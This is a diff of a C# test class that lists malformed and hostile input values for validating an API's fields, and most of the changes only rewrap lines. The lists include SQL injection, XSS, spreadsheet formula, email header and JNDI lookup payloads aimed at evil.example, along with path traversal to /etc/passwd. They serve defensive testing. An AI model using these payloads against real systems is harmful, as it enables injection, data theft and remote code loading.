@@ -47,7 +47,8 @@ internal static class WrongValues
     [
         "x'; DROP TABLE rows; --", "1' OR '1'='1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
         "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "@SUM(1)", "-2+3", "x\r\nBcc: victim@evil.example",
-        "../../../../etc/passwd", "..\\..\\windows", "{{7*7}}", "${jndi:ldap://evil.example}", "%00%0d%0a", "NULL", "NaN",
+        "../../../../etc/passwd", "..\\..\\windows", "{{7*7}}", "${jndi:ldap://evil.example}", "%00%0d%0a", "NULL",
+        "NaN",
         "𠮷野家👩‍👩‍👧", "z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
     ];
 
@@ -86,7 +87,8 @@ internal static class WrongValues
         (Class.TooLong, new('a', 4500)), (Class.TooLong, new string('a', 4500) + "%E9%95%BF"),
         (Class.ControlCharacters, "a%07b"), (Class.ControlCharacters, "a%1B%5B2Jb"), (Class.ControlCharacters, "a%7Fb"),
         (Class.ControlCharacters, "a%C2%85b"), (Class.ControlCharacters, "a%0D%0ABcc%3A%20x"),
-        (Class.DirectionMarks, "a%E2%80%AEb"), (Class.DirectionMarks, "a%E2%81%A6b"), (Class.DirectionMarks, "a%E2%80%8Fb"),
+        (Class.DirectionMarks, "a%E2%80%AEb"), (Class.DirectionMarks, "a%E2%81%A6b"),
+        (Class.DirectionMarks, "a%E2%80%8Fb"),
         (Class.WrongEncoding, "a%FFb"), (Class.WrongEncoding, "%D5%C5%C8%FD"), (Class.WrongEncoding, "%C0%AF"),
     ];
 
@@ -95,26 +97,31 @@ internal static class WrongValues
         Kind.Text =>
         [
             (Class.WrongType, "7"), (Class.WrongType, "true"), (Class.WrongType, "{}"), (Class.WrongType, "[\"a\"]"),
-            (Class.TooLong, Long + new string('长', 5000) + "\""), (Class.TooLong, "\"" + new string('a', 100_000) + "\""),
+            (Class.TooLong, Long + new string('长', 5000) + "\""),
+            (Class.TooLong, "\"" + new string('a', 100_000) + "\""),
             .. Unprintable,
         ],
         Kind.Word =>
         [
-            (Class.WrongType, "\"nonsense\""), (Class.WrongType, "\"\""), (Class.WrongType, "1"), (Class.WrongType, "{}"),
+            (Class.WrongType, "\"nonsense\""), (Class.WrongType, "\"\""), (Class.WrongType, "1"),
+            (Class.WrongType, "{}"),
             (Class.WrongType, "[]"), (Class.Negative, "-1"), (Class.TooLong, "\"" + new string('a', 100_000) + "\""),
             .. Unprintable,
         ],
         Kind.Day =>
         [
             (Class.WrongType, "20261121"), (Class.WrongType, "\"\""), (Class.WrongType, "\"yesterday\""),
-            (Class.WrongType, "\"2026-02-30\""), (Class.WrongType, "\"21.11.2026\""), (Class.WrongType, "\"２０２６-11-21\""),
+            (Class.WrongType, "\"2026-02-30\""), (Class.WrongType, "\"21.11.2026\""),
+            (Class.WrongType, "\"２０２６-11-21\""),
             (Class.WrongType, "[]"), (Class.Negative, "\"-2026-01-01\""), (Class.Huge, "\"99999-01-01\""),
             (Class.Huge, "\"9999-12-31\""), (Class.Huge, "\"0001-01-01\""), .. Unprintable,
         ],
         Kind.Time =>
         [
-            (Class.WrongType, "8"), (Class.WrongType, "\"\""), (Class.WrongType, "\"8:00\""), (Class.WrongType, "\"25:00\""),
-            (Class.WrongType, "\"08:00:00\""), (Class.Negative, "\"-08:00\""), (Class.Huge, "\"99:99\""), .. Unprintable,
+            (Class.WrongType, "8"), (Class.WrongType, "\"\""), (Class.WrongType, "\"8:00\""),
+            (Class.WrongType, "\"25:00\""),
+            (Class.WrongType, "\"08:00:00\""), (Class.Negative, "\"-08:00\""),
+            (Class.Huge, "\"99:99\""), .. Unprintable,
         ],
         Kind.Moment =>
         [
@@ -130,14 +137,16 @@ internal static class WrongValues
         ],
         Kind.Flag =>
         [
-            (Class.WrongType, "\"true\""), (Class.WrongType, "1"), (Class.WrongType, "\"yes\""), (Class.WrongType, "{}"),
+            (Class.WrongType, "\"true\""), (Class.WrongType, "1"), (Class.WrongType, "\"yes\""),
+            (Class.WrongType, "{}"),
             (Class.WrongType, "[]"), (Class.NotANumber, "\"NaN\""),
         ],
         Kind.Whole =>
         [
             (Class.WrongType, "\"5\""), (Class.WrongType, "1.5"), (Class.WrongType, "true"), (Class.WrongType, "[]"),
             (Class.Negative, "-1"), (Class.Negative, "-2147483648"), (Class.Huge, "2147483648"),
-            (Class.Huge, "2147483647"), (Class.Huge, "1" + Zeros(40)), (Class.Huge, "1e400"), (Class.NotANumber, "\"NaN\""),
+            (Class.Huge, "2147483647"), (Class.Huge, "1" + Zeros(40)), (Class.Huge, "1e400"),
+            (Class.NotANumber, "\"NaN\""),
         ],
         Kind.Number =>
         [
@@ -149,7 +158,8 @@ internal static class WrongValues
         Kind.List =>
         [
             (Class.WrongType, "\"text\""), (Class.WrongType, "{}"), (Class.WrongType, "7"), (Class.WrongType, "[[]]"),
-            (Class.WrongType, "[null]"), (Class.TooMany, "[" + string.Join(',', Enumerable.Repeat("null", 10_001)) + "]"),
+            (Class.WrongType, "[null]"),
+            (Class.TooMany, "[" + string.Join(',', Enumerable.Repeat("null", 10_001)) + "]"),
         ],
         Kind.Object => [(Class.WrongType, "\"text\""), (Class.WrongType, "[]"), (Class.WrongType, "7")],
     };
@@ -159,24 +169,28 @@ internal static class WrongValues
         (Class.ControlCharacters, "\"a\\u0000b\""), (Class.ControlCharacters, "\"a\\u0007b\""),
         (Class.ControlCharacters, "\"\\u001b[2J\\u001b]0;x\""), (Class.ControlCharacters, "\"a\\u007fb\""),
         (Class.ControlCharacters, "\"a\\u0085b\""), (Class.ControlCharacters, "\"a\\u2028b\""),
-        (Class.DirectionMarks, "\"a\\u202eb\""), (Class.DirectionMarks, "\"a\\u2066b\""), (Class.DirectionMarks, "\"a\\u200fb\""),
+        (Class.DirectionMarks, "\"a\\u202eb\""), (Class.DirectionMarks, "\"a\\u2066b\""),
+        (Class.DirectionMarks, "\"a\\u200fb\""),
         (Class.WrongEncoding, "\"a\\ud800b\""), (Class.WrongEncoding, "\"a\ufffdb\""),
     ];
 
     // Bytes that are no UTF-8: a broken sequence, GB18030, and an overlong slash.
-    private static WrongValue[] Bytes(Kind kind) => kind is Kind.Flag or Kind.Whole or Kind.Number or Kind.List or Kind.Object
-        ? []
-        :
+    private static WrongValue[] Bytes(Kind kind) => kind switch
+    {
+        Kind.Flag or Kind.Whole or Kind.Number or Kind.List or Kind.Object => [],
+        Kind.Text or Kind.Word or Kind.Day or Kind.Time or Kind.Moment or Kind.Id =>
         [
             new(Class.WrongEncoding, [(byte)'"', 0xC3, 0x28, (byte)'"']),
             new(Class.WrongEncoding, [(byte)'"', 0xD5, 0xC5, 0xC8, 0xFD, (byte)'"']),
             new(Class.WrongEncoding, [(byte)'"', 0xC0, 0xAF, (byte)'"']),
-        ];
+        ],
+    };
 
     private static WrongValue[] Deep { get; } =
     [
         WrongValue.Of(Class.DeepNesting, new string('[', 40) + new string(']', 40)),
-        WrongValue.Of(Class.DeepNesting, string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000)),
+        WrongValue.Of(
+            Class.DeepNesting, string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000)),
         WrongValue.Of(Class.DeepNesting, new string('[', 100_000) + new string(']', 100_000)),
     ];
 
